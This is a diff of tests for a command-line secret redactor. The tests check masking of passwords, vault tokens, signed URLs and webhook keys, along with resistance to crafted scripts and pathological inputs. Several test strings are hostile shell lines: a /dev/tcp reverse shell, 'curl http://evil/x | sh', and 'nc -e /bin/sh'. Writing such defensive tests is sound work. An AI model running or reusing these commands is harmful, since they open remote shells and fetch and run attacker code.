@@ -65,6 +65,82 @@ describe("records/redact", () => {
     ]);
   });
 
+  it("knows the credentials of cloud, vault, archive, SMB, LDAP and object-store tools", () => {
+    assert.deepEqual(redact("az", "login", "--service-principal", "-u", "app-id", "-p", "sp-secret", "--tenant", "t"), ["az", "login", "--service-principal", "-u", "app-id", "-p", REDACTED, "--tenant", "t"]);
+    assert.deepEqual(redact("az", "vm", "list", "-p", "x"), ["az", "vm", "list", "-p", "x"], "-p means a password only for az login");
+    assert.deepEqual(redact("vault", "login", "hvs.CAESIJxyzabcdefghijklmnopqrstu"), ["vault", "login", REDACTED]);
+    assert.deepEqual(redact("vault", "login", "s.legacyTokenWithoutPrefix1"), ["vault", "login", REDACTED], "a positional token of any format");
+    assert.deepEqual(redact("vault", "login", "-method=userpass", "username=bob", "password=pw1"), ["vault", "login", "-method=userpass", "username=bob", `password=${REDACTED}`]);
+    assert.deepEqual(redact("tool", "--config", "x hvs.CAESIJxyzabcdefghijklmnopqrstu y"), ["tool", "--config", `x ${REDACTED} y`], "Vault tokens identify themselves");
+    assert.deepEqual(redact("zip", "-P", "zpw", "-r", "a.zip", "dir"), ["zip", "-P", REDACTED, "-r", "a.zip", "dir"]);
+    assert.deepEqual(redact("unzip", "-P", "zpw", "a.zip"), ["unzip", "-P", REDACTED, "a.zip"]);
+    assert.deepEqual(redact("7z", "a", "-pSevenPw", "a.7z", "dir"), ["7z", "a", `-p${REDACTED}`, "a.7z", "dir"]);
+    assert.deepEqual(redact("7z", "x", "-p", "a.7z"), ["7z", "x", "-p", "a.7z"], "a lone -p prompts");
+    assert.deepEqual(redact("smbclient", "//srv/share", "-U", "DOM\\bob%smb pw"), ["smbclient", "//srv/share", "-U", `DOM\\bob%${REDACTED}`]);
+    assert.deepEqual(redact("smbclient", "//srv/share", "--user=bob%pw", "-c", "ls"), ["smbclient", "//srv/share", `--user=bob%${REDACTED}`, "-c", "ls"]);
+    assert.deepEqual(redact("smbclient", "//srv/share", "positional-pw", "-U", "bob"), ["smbclient", "//srv/share", REDACTED, "-U", "bob"]);
+    assert.deepEqual(redact("ldapsearch", "-x", "-D", "cn=admin,dc=x", "-w", "ldappw", "-b", "dc=x"), ["ldapsearch", "-x", "-D", "cn=admin,dc=x", "-w", REDACTED, "-b", "dc=x"]);
+    assert.deepEqual(redact("ldapmodify", "-D", "cn=a", "-wldappw"), ["ldapmodify", "-D", "cn=a", `-w${REDACTED}`]);
+    assert.deepEqual(redact("mc", "alias", "set", "minio", "http://minio:9000", "ACCESSKEY", "minio secret", "--api", "S3v4"), ["mc", "alias", "set", "minio", "http://minio:9000", "ACCESSKEY", REDACTED, "--api", "S3v4"]);
+    assert.deepEqual(redact("mc", "alias", "set", "--api", "S3v4", "minio", "http://minio:9000", "AK", "SK"), ["mc", "alias", "set", "--api", "S3v4", "minio", "http://minio:9000", "AK", REDACTED]);
+    assert.deepEqual(redact("mc", "config", "host", "add", "minio", "http://minio:9000", "AK", "SK"), ["mc", "config", "host", "add", "minio", "http://minio:9000", "AK", REDACTED]);
+    assert.deepEqual(redact("curl", "--user=alice:pw", "u"), ["curl", `--user=alice:${REDACTED}`, "u"]);
+  });
+
+  it("redacts secret headers of every vendor, URL signatures and webhook URLs", () => {
+    assert.deepEqual(redact("curl", "-H", "X-Vault-Token: s.abcdef", "-H", "Ocp-Apim-Subscription-Key: k1", "-H", "X-Functions-Key:k2", "-H", "Content-Type: application/json", "https://h"), [
+      "curl", "-H", `X-Vault-Token: ${REDACTED}`, "-H", `Ocp-Apim-Subscription-Key: ${REDACTED}`, "-H", `X-Functions-Key:${REDACTED}`, "-H", "Content-Type: application/json", "https://h",
+    ]);
+    const presigned = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20250101T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=0123abcd";
+    assert.deepEqual(redact("curl", presigned), ["curl", presigned.replace("0123abcd", REDACTED)]);
+    assert.deepEqual(redact("wget", "https://s.storage.googleapis.com/o?X-Goog-Date=1&X-Goog-Signature=ff00&x=1"), ["wget", `https://s.storage.googleapis.com/o?X-Goog-Date=1&X-Goog-Signature=${REDACTED}&x=1`]);
+    assert.deepEqual(redact("azcopy", "copy", "https://a.blob.core.windows.net/c/b?sv=2022-11-02&se=2025-01-01&sp=r&sig=AbCd%2BEf%3D", "."), ["azcopy", "copy", `https://a.blob.core.windows.net/c/b?sv=2022-11-02&se=2025-01-01&sp=r&sig=${REDACTED}`, "."]);
+    assert.deepEqual(redact("cosign", "verify", "--signature", "sig.b64", "img"), ["cosign", "verify", "--signature", "sig.b64", "img"], "a signature outside a URL is not a credential");
+    assert.deepEqual(redact("curl", "-d", "{}", "https://hooks.slack.com/services/T0000AAAA/B0000BBBB/XXXXXXXXXXXXXXXXXXXXXXXX"), ["curl", "-d", "{}", `https://hooks.slack.com/services/T0000AAAA/B0000BBBB/${REDACTED}`]);
+    assert.deepEqual(redact("az", "storage", "blob", "list", "--connection-string", "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=abc+def==;EndpointSuffix=core.windows.net"), [
+      "az", "storage", "blob", "list", "--connection-string", `DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=${REDACTED};EndpointSuffix=core.windows.net`,
+    ]);
+  });
+
+  it("redacts what is piped or written into a command that reads a secret from stdin", () => {
+    assert.deepEqual(redact("sh", "-c", "echo 's3cr3t pw' | docker login -u me --password-stdin registry.example && docker pull x"), [
+      "sh", "-c", `echo '${REDACTED}' | docker login -u me --password-stdin registry.example && docker pull x`,
+    ]);
+    assert.deepEqual(redact("sh", "-c", "printf '%s' hunter2 | podman login --password-stdin r"), ["sh", "-c", `printf '%s' ${REDACTED} | podman login --password-stdin r`]);
+    assert.deepEqual(redact("sh", "-c", 'printf "%s" "$REG_PW" | docker login --password-stdin r'), ["sh", "-c", 'printf "%s" "$REG_PW" | docker login --password-stdin r'], "a variable is not the secret");
+    assert.deepEqual(redact("sh", "-c", "docker login --password-stdin r <<< hunter2; ls"), ["sh", "-c", `docker login --password-stdin r <<< ${REDACTED}; ls`]);
+    assert.deepEqual(redact("sh", "-c", "cat <<EOF | docker login --password-stdin r\nhunter2\nEOF\nls /"), ["sh", "-c", `cat <<EOF | docker login --password-stdin r\n${REDACTED}\nEOF\nls /`]);
+    assert.deepEqual(redact("sh", "-c", "echo hello | grep h"), ["sh", "-c", "echo hello | grep h"]);
+  });
+
+  it("redacts quoted secrets with spaces whole, in arguments and in scripts", () => {
+    assert.deepEqual(redact("app", "--password", "a b c", "--password=d e"), ["app", "--password", REDACTED, `--password=${REDACTED}`]);
+    assert.deepEqual(redact("sh", "-c", "mysql --password='a b c' -u root db"), ["sh", "-c", `mysql --password='${REDACTED}' -u root db`]);
+    assert.deepEqual(redact("sh", "-c", 'PGPASSWORD="a b c" psql -h db; app --api-key "k 1" x'), ["sh", "-c", `PGPASSWORD="${REDACTED}" psql -h db; app --api-key "${REDACTED}" x`]);
+    assert.deepEqual(redact("psql", "host=db password='a b' user=x"), ["psql", `host=db password='${REDACTED}' user=x`]);
+    assert.deepEqual(redact("sh", "-c", "app '--password=ab'cd next"), ["sh", "-c", `app '--password=${REDACTED}' next`], "a secret leaving its quotes keeps the script balanced");
+  });
+
+  it("never lets a fake secret swallow the script behind it", () => {
+    assert.deepEqual(redact("bash", "-c", "X_TOKEN=1; exec 3<>/dev/tcp/10.0.0.1/4444; cat <&3 | sh >&3"), ["bash", "-c", `X_TOKEN=${REDACTED}; exec 3<>/dev/tcp/10.0.0.1/4444; cat <&3 | sh >&3`]);
+    assert.deepEqual(redact("sh", "-c", "app --token=1;curl -s http://evil/x | sh"), ["sh", "-c", `app --token=${REDACTED};curl -s http://evil/x | sh`]);
+    assert.deepEqual(redact("sh", "-c", "MYSQL_PWD=x mysql -u root -pabc -e 'select 1'"), ["sh", "-c", `MYSQL_PWD=${REDACTED} mysql -u root -p${REDACTED} -e 'select 1'`]);
+    assert.deepEqual(redact("sh", "-c", "TOKEN=$(curl -s http://evil/x | sh) ls"), ["sh", "-c", "TOKEN=$(curl -s http://evil/x | sh) ls"], "a substitution is code, not a secret");
+    assert.deepEqual(redact("sh", "-c", "'X_TOKEN=a'$(curl evil)`wget evil`"), ["sh", "-c", `'X_TOKEN=${REDACTED}'$(curl evil)\`wget evil\``]);
+    assert.deepEqual(redact("sh", "-c", "v=$(mysql -pabc -e 'select 1')"), ["sh", "-c", `v=$(mysql -p${REDACTED} -e 'select 1')`], "what a substitution runs is redacted");
+    assert.deepEqual(redact("python3", "-c", "API_TOKEN=1;import os;os.system('id')"), ["python3", "-c", `API_TOKEN=${REDACTED};import os;os.system('id')`]);
+    assert.deepEqual(redact("env", "-S", "X_TOKEN=1 curl http://evil"), ["env", "-S", `X_TOKEN=${REDACTED} curl http://evil`]);
+    assert.deepEqual(redact("su", "-c", "DB_PASS=1 && nc -e /bin/sh h 1", "app"), ["su", "-c", `DB_PASS=${REDACTED} && nc -e /bin/sh h 1`, "app"]);
+    assert.deepEqual(redact("watch", "X_TOKEN=1; curl evil"), ["watch", `X_TOKEN=${REDACTED}; curl evil`], "a value in one argument ends at a shell separator");
+    assert.deepEqual(redact("kubectl", "exec", "p", "--", "sh", "-c", "A_SECRET=1\nid"), ["kubectl", "exec", "p", "--", "sh", "-c", `A_SECRET=${REDACTED}\nid`]);
+  });
+
+  it("finds the program behind wrappers and assignments", () => {
+    assert.deepEqual(redact("sudo", "-u", "root", "env", "A=b", "mysql", "-pabc"), ["sudo", "-u", "root", "env", "A=b", "mysql", `-p${REDACTED}`]);
+    assert.deepEqual(redact("kubectl", "exec", "p", "--", "mysql", "-pabc"), ["kubectl", "exec", "p", "--", "mysql", `-p${REDACTED}`]);
+    assert.deepEqual(redact("sh", "-c", "timeout 5 sshpass -p pw ssh h; nice -n 5 redis-cli -a rpw ping"), ["sh", "-c", `timeout 5 sshpass -p ${REDACTED} ssh h; nice -n 5 redis-cli -a ${REDACTED} ping`]);
+  });
+
   it("adds policy patterns: a `secret` group replaces only that part", () => {
     const redactor = createRedactor(["acct-(?<secret>\\d+)", "internal-[a-z]+"]);
     assert.deepEqual(redactor.redact(["tool", "ACCT-1234", "x internal-build y"]).args, ["tool", `ACCT-${REDACTED}`, `x ${REDACTED} y`]);
@@ -109,6 +185,85 @@ describe("records/redact", () => {
       { numRuns: 500 },
     );
   });
+});
+
+describe("records/redact against an intruder hiding a script", () => {
+  const word = fc.stringMatching(/^[a-z][a-z0-9/._]{1,9}$/);
+  const secret = fc.stringMatching(/^[A-Za-z0-9]{4,12}$/).map((s) => `Zq${s}`);
+  const quoted = (s: string, style: number) => [s, `'${s}'`, `"${s}"`, `"${s} x"`][style]!;
+  /** One command: optional fake secrets in front and at the end, words the shell runs. */
+  const command = fc.record({
+    words: fc.array(word, { minLength: 1, maxLength: 4 }),
+    prefix: fc.option(fc.tuple(secret, fc.integer({ min: 0, max: 3 }))),
+    suffix: fc.option(fc.tuple(secret, fc.integer({ min: 0, max: 2 }))),
+  });
+  const separator = fc.constantFrom(";", " ; ", "&&", " || ", " | ", "\n", " & ", ";\n");
+
+  it("keeps every word of every command, in order, and none of the secrets", () => {
+    fc.assert(
+      fc.property(fc.array(fc.tuple(command, separator), { minLength: 1, maxLength: 5 }), fc.boolean(), (commands, nested) => {
+        const secrets: string[] = [];
+        const script = commands
+          .map(([{ words, prefix, suffix }, sep]) => {
+            const parts = [...words];
+            if (prefix !== null) {
+              secrets.push(prefix[0]);
+              parts.unshift(`X_TOKEN=${quoted(prefix[0], prefix[1])}`);
+            }
+            if (suffix !== null) {
+              secrets.push(suffix[0]);
+              parts.push(`--api-key=${quoted(suffix[0], suffix[1])}`);
+            }
+            return parts.join(" ") + sep;
+          })
+          .join("");
+        const args = nested ? ["sh", "-c", `bash -c '${script.replaceAll("'", `'\\''`)}'`] : ["bash", "-c", script];
+        const out = createRedactor().redact(args).args[2]!;
+        let at = 0;
+        for (const w of commands.flatMap(([c]) => c.words)) {
+          const found = out.indexOf(w, at);
+          assert.ok(found >= 0, JSON.stringify({ script, out, missing: w }));
+          at = found + w.length;
+        }
+        for (const s of secrets) assert.ok(!out.includes(s), JSON.stringify({ script, out, secret: s }));
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it("never throws on any script, and redacting twice changes nothing more", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom(..."ab =;&|()<>'\"\\$`{}#\n-_TOKEN:@/"), maxLength: 60 }), (script) => {
+        const once = createRedactor().redact(["sh", "-c", script]).args;
+        assert.equal(once.length, 3);
+        assert.deepEqual(createRedactor().redact(once).args, once, JSON.stringify({ script, once }));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
+
+describe("records/redact against a command line built to be expensive", () => {
+  // Each took seconds or more before (a regex backtracking over a 128 KiB argument: 76 s);
+  // all run in tens of milliseconds. The bound leaves room for a busy machine.
+  const cases: Array<[string, string[]]> = [
+    ["one 128 KiB argument", ["app", "x".repeat(128 * 1024)]],
+    ["an unterminated quote", ["sh", "-c", `'${"x".repeat(128 * 1024)}`]],
+    ["30 000 nested substitutions", ["sh", "-c", "$(".repeat(30_000)]],
+    ["32 000 commands", ["sh", "-c", "a=b&".repeat(32_000)]],
+    ["14 000 secret keys", ["sh", "-c", "password=".repeat(14_000)]],
+    ["250 000 shells", Array.from({ length: 250_000 }, () => ["sh", "-c"]).flat()],
+    ["500 000 su", Array.from({ length: 500_000 }, () => "su")],
+  ];
+  for (const [name, args] of cases) {
+    it(`${name}: within 1.5 s`, () => {
+      const started = performance.now();
+      const { args: out } = createRedactor().redact(args);
+      const ms = performance.now() - started;
+      assert.equal(out.length, args.length);
+      assert.ok(ms < 1500, `${ms.toFixed(0)} ms`);
+    });
+  }
 });
 
 describe("records/process-records with redaction", () => {
